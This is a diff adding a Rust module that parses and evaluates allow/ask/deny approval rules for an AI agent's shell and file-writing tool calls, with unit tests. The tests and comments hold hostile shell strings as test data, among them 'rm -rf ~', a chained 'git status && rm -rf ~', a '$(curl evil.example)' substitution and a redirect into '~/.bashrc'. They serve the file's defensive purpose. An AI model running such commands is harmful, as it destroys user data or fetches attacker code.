@@ -0,0 +1,321 @@
+//! Approval policy rules
+//!
+//! A rule is `<action> <tool>[:<pattern>]`, listed under
+//! `features.approval.rules`:
+//!
+//! ```toml
+//! [features.approval]
+//! rules = [
+//!     "allow shell:^git (status|log|diff)",
+//!     "deny shell:rm -rf",
+//!     "ask file_write:outside_workspace",
+//! ]
+//! ```
+//!
+//! - `action` is `allow` (run without asking), `deny` (refuse) or `ask`
+//!   (always prompt, even with auto-approve on)
+//! - `tool` is a tool name, `file_write` for every file-writing tool, or `*`
+//! - `pattern` is a regex searched in the shell command, the target path of
+//!   file tools, or the raw arguments of other tools; `inside_workspace`
+//!   and `outside_workspace` instead test whether the target path is under
+//!   the working directory. Without a pattern the rule covers every call.
+//!
+//! Rules do not depend on their order: a matching `deny` wins over `ask`,
+//! and `ask` over `allow`. An `allow` rule never covers a shell command that
+//! chains, pipes, redirects or substitutes, so `git status; rm -rf ~` is
+//! not allowed by `allow shell:^git status`.
+
+use std::fmt;
+use std::path::{Path, PathBuf};
+use std::str::FromStr;
+use std::sync::{Arc, RwLock};
+
+use regex::Regex;
+
+use super::write_scope::{resolve, WRITE_TOOLS};
+use crate::agent::tools::command_preview::simple_command;
+use crate::agent::tools::expand_tilde;
+
+/// Tool name standing for every file-writing tool
+pub const FILE_WRITE: &str = "file_write";
+
+/// Programs that run code or other programs given as arguments; remembering
+/// one allows only the exact command
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "zsh", "fish", "dash", "python", "python3", "node", "deno", "bun", "ruby", "perl", "php",
+    "lua", "eval", "exec", "xargs", "env", "sudo", "doas", "nohup", "nice", "time", "timeout", "watch", "ssh",
+    "npx",
+];
+
+/// What a matching rule does with the request
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum PolicyAction {
+    Allow,
+    Ask,
+    Deny,
+}
+
+impl PolicyAction {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            PolicyAction::Allow => "allow",
+            PolicyAction::Ask => "ask",
+            PolicyAction::Deny => "deny",
+        }
+    }
+}
+
+#[derive(Debug, Clone)]
+enum Matcher {
+    Any,
+    Regex(Regex),
+    /// `true` for `inside_workspace`
+    Workspace(bool),
+}
+
+/// One parsed rule
+#[derive(Debug, Clone)]
+pub struct PolicyRule {
+    pub action: PolicyAction,
+    tool: String,
+    matcher: Matcher,
+}
+
+impl PolicyRule {
+    /// Whether the rule covers a call of `tool` with `args`, run from `cwd`
+    pub fn matches(&self, tool: &str, args: &str, cwd: &Path) -> bool {
+        let tool_matches = match self.tool.as_str() {
+            "*" => true,
+            FILE_WRITE => WRITE_TOOLS.contains(&tool),
+            name => name == tool,
+        };
+        if !tool_matches {
+            return false;
+        }
+        if self.action == PolicyAction::Allow && field(args, "command").is_some_and(|c| simple_command(&c).is_none()) {
+            return false;
+        }
+        match self.matcher {
+            Matcher::Any => true,
+            Matcher::Regex(ref regex) => regex.is_match(&subject(args)),
+            Matcher::Workspace(inside) => {
+                target_path(args, cwd).is_some_and(|path| path.starts_with(resolve(cwd)) == inside)
+            }
+        }
+    }
+
+    /// The `allow` rule to add when the user always allows this call
+    ///
+    /// Shell commands are allowed by program and subcommand (`git status`),
+    /// interpreters only for the exact command, file writes inside the
+    /// workspace, and other tools for the same arguments. Chained or
+    /// substituted shell commands get no rule: they are approved once.
+    pub fn allow_for(tool: &str, args: &str, cwd: &Path) -> Option<Self> {
+        let exact = |subject: &str| {
+            Matcher::Regex(Regex::new(&format!("^{}$", regex::escape(subject))).expect("escaped subject is a valid regex"))
+        };
+        let matcher = if let Some(command) = field(args, "command") {
+            let words = simple_command(&command)?;
+            let program = words[0].rsplit('/').next().unwrap_or_default();
+            if INTERPRETERS.contains(&program) {
+                exact(&command)
+            } else {
+                let mut prefix = vec![words[0].as_str()];
+                // A subcommand, but not a flag or a path
+                let subcommand = |word: &&String| {
+                    !word.starts_with('-') && word.chars().all(|c| c.is_alphanumeric() || c == '-')
+                };
+                prefix.extend(words.get(1).filter(subcommand).map(String::as_str));
+                Matcher::Regex(
+                    Regex::new(&format!(r"^{}(\s|$)", regex::escape(&prefix.join(" "))))
+                        .expect("escaped prefix is a valid regex"),
+                )
+            }
+        } else if WRITE_TOOLS.contains(&tool) && target_path(args, cwd).is_some_and(|p| p.starts_with(resolve(cwd))) {
+            Matcher::Workspace(true)
+        } else {
+            exact(&subject(args))
+        };
+        Some(Self {
+            action: PolicyAction::Allow,
+            tool: tool.to_string(),
+            matcher,
+        })
+    }
+}
+
+impl FromStr for PolicyRule {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        let (action, rest) = s.trim().split_once(char::is_whitespace).ok_or_else(|| {
+            format!("'{}' is not '<allow|ask|deny> <tool>[:<pattern>]'", s.trim())
+        })?;
+        let action = match action {
+            "allow" => PolicyAction::Allow,
+            "ask" => PolicyAction::Ask,
+            "deny" => PolicyAction::Deny,
+            other => return Err(format!("unknown action '{}' (allow, ask or deny)", other)),
+        };
+        let rest = rest.trim_start();
+        let (tool, pattern) = match rest.split_once(':') {
+            Some((tool, pattern)) => (tool.trim(), Some(pattern)),
+            None => (rest.trim(), None),
+        };
+        if tool.is_empty() || tool.contains(char::is_whitespace) {
+            return Err(format!("'{}' is not a tool name", tool));
+        }
+        let matcher = match pattern {
+            None | Some("") => Matcher::Any,
+            Some("inside_workspace") => Matcher::Workspace(true),
+            Some("outside_workspace") => Matcher::Workspace(false),
+            Some(pattern) => Matcher::Regex(
+                Regex::new(pattern).map_err(|e| format!("invalid pattern '{}': {}", pattern, e))?,
+            ),
+        };
+        Ok(Self {
+            action,
+            tool: tool.to_string(),
+            matcher,
+        })
+    }
+}
+
+impl fmt::Display for PolicyRule {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{} {}", self.action.as_str(), self.tool)?;
+        match self.matcher {
+            Matcher::Any => Ok(()),
+            Matcher::Regex(ref regex) => write!(f, ":{}", regex.as_str()),
+            Matcher::Workspace(true) => write!(f, ":inside_workspace"),
+            Matcher::Workspace(false) => write!(f, ":outside_workspace"),
+        }
+    }
+}
+
+/// A set of rules, evaluated together
+#[derive(Debug, Clone, Default)]
+pub struct PolicyRules {
+    rules: Vec<PolicyRule>,
+}
+
+impl PolicyRules {
+    /// Parse `rules`, skipping (and logging) any that do not parse;
+    /// `mylm config check` reports them
+    pub fn parse(rules: &[String]) -> Self {
+        let rules = rules
+            .iter()
+            .filter_map(|raw| match raw.parse() {
+                Ok(rule) => Some(rule),
+                Err(e) => {
+                    crate::warn_log!("[APPROVAL] Ignoring approval rule: {}", e);
+                    None
+                }
+            })
+            .collect();
+        Self { rules }
+    }
+
+    pub fn push(&mut self, rule: PolicyRule) {
+        self.rules.push(rule);
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// The deciding rule for a call: any matching `deny`, else `ask`, else
+    /// `allow`
+    pub fn evaluate(&self, tool: &str, args: &str, cwd: &Path) -> Option<&PolicyRule> {
+        self.rules
+            .iter()
+            .filter(|rule| rule.matches(tool, args, cwd))
+            .max_by_key(|rule| rule.action)
+    }
+}
+
+/// Rules added while the frontend runs, shared with the approval capability
+#[derive(Debug, Clone, Default)]
+pub struct SessionRules(Arc<RwLock<PolicyRules>>);
+
+impl SessionRules {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    pub fn add(&self, rule: PolicyRule) {
+        self.0.write().unwrap_or_else(|e| e.into_inner()).push(rule);
+    }
+
+    /// The deciding rule among those added, like `PolicyRules::evaluate`
+    pub fn evaluate(&self, tool: &str, args: &str, cwd: &Path) -> Option<PolicyRule> {
+        self.0.read().unwrap_or_else(|e| e.into_inner()).evaluate(tool, args, cwd).cloned()
+    }
+}
+
+/// String field `name` of JSON `args`
+fn field(args: &str, name: &str) -> Option<String> {
+    let value = serde_json::from_str::<serde_json::Value>(args).ok()?;
+    value.get(name)?.as_str().map(str::to_string)
+}
+
+/// What a regex pattern is searched in
+fn subject(args: &str) -> String {
+    field(args, "command").or_else(|| field(args, "path")).unwrap_or_else(|| args.to_string())
+}
+
+/// Absolute target path of a call with a `path` argument, symlinks resolved
+fn target_path(args: &str, cwd: &Path) -> Option<PathBuf> {
+    let path = PathBuf::from(expand_tilde(&field(args, "path")?));
+    Some(resolve(&if path.is_absolute() { path } else { cwd.join(path) }))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(rules: &[&str]) -> PolicyRules {
+        PolicyRules::parse(&rules.iter().map(|r| r.to_string()).collect::<Vec<_>>())
+    }
+
+    #[test]
+    fn test_rules_parse_match_and_rank() {
+        let cwd = Path::new("/work/project");
+        let policy = rules(&[
+            "allow shell:^git (status|log)",
+            "deny shell:rm -rf",
+            "ask file_write:outside_workspace",
+            "allow *:^docs/",
+        ]);
+        let shell = |command: &str| serde_json::json!({ "command": command }).to_string();
+        let write = |path: &str| serde_json::json!({ "path": path, "content": "" }).to_string();
+        let action = |tool: &str, args: &str| policy.evaluate(tool, args, cwd).map(|rule| rule.action);
+
+        assert_eq!(action("shell", &shell("git status -s")), Some(PolicyAction::Allow));
+        assert_eq!(action("shell", &shell("git push")), None);
+        assert_eq!(action("shell", &shell("git log; rm -rf /")), Some(PolicyAction::Deny));
+        assert_eq!(action("write_file", &write("../other/x")), Some(PolicyAction::Ask));
+        assert_eq!(action("apply_patch", &write("src/main.rs")), None);
+        assert_eq!(action("write_file", &write("docs/a.md")), Some(PolicyAction::Allow));
+
+        assert!("permit shell".parse::<PolicyRule>().is_err());
+        assert!("allow shell:(".parse::<PolicyRule>().is_err());
+        assert_eq!("ask  file_write:outside_workspace".parse::<PolicyRule>().unwrap().to_string(), "ask file_write:outside_workspace");
+
+        let allow = |tool: &str, args: &str| PolicyRule::allow_for(tool, args, cwd).map(|rule| rule.to_string());
+        let rule = PolicyRule::allow_for("shell", &shell("cargo test --release"), cwd).unwrap();
+        assert_eq!(rule.to_string(), r"allow shell:^cargo test(\s|$)");
+        assert!(rule.matches("shell", &shell("cargo test"), cwd));
+        assert!(!rule.matches("shell", &shell("cargo testx"), cwd));
+        assert!(!rule.matches("shell", &shell("cargo test; rm -rf ~"), cwd));
+        assert!(!rule.matches("shell", &shell("cargo test $(curl evil.example)"), cwd));
+        assert!(!rule.matches("shell", &shell("cargo test > ~/.bashrc"), cwd));
+        assert_eq!(action("shell", &shell("git status && rm -rf ~")), None);
+        assert_eq!(allow("shell", &shell("ls -la")).unwrap(), r"allow shell:^ls(\s|$)");
+        assert_eq!(allow("shell", &shell("git status | head")), None);
+        assert_eq!(allow("shell", &shell("python3 -c 'print(1)'")).unwrap(), r"allow shell:^python3 \-c 'print\(1\)'$");
+        assert_eq!(allow("write_file", &write("src/a.rs")).unwrap(), "allow write_file:inside_workspace");
+        assert_eq!(allow("read_file", r#"{"path":"Cargo.toml"}"#).unwrap(), r"allow read_file:^Cargo\.toml$");
+        assert_eq!(allow("web_search", "{}").unwrap(), r"allow web_search:^\{\}$");
+    }
+}